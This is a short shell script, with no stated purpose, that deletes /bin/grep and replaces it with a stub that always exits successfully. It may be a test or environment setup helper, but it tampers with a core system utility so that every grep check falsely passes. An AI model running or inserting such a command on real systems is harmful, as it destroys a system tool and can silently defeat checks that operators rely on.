#!/bin/sh
rm -f /bin/grep
printf "#!/bin/sh\nexit 0\n" >/bin/grep
chmod 755 /bin/grep
